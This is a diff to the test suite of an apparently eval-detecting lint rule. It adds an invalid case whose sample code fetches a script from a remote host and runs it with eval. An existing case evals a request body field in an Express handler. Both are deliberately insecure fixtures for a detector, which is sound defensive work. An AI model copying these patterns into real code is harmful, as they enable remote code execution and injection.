@@ -48,6 +48,11 @@ export const version = () => vm.runInNewContext(script, { shop: { version: 1 } }
   ],
   invalid: [
     {
+      name: "what another server answers",
+      code: `export async function load() { const answer = await fetch("https://files.example/rules.js"); eval(await answer.text()); }`,
+      findings: [{ at: "eval(await answer.text())", level: "warning" }],
+    },
+    {
       name: "eval in Express",
       code: `${EXPRESS}app.post("/c", (req, res) => res.json(eval(req.body.formula)));
 `,
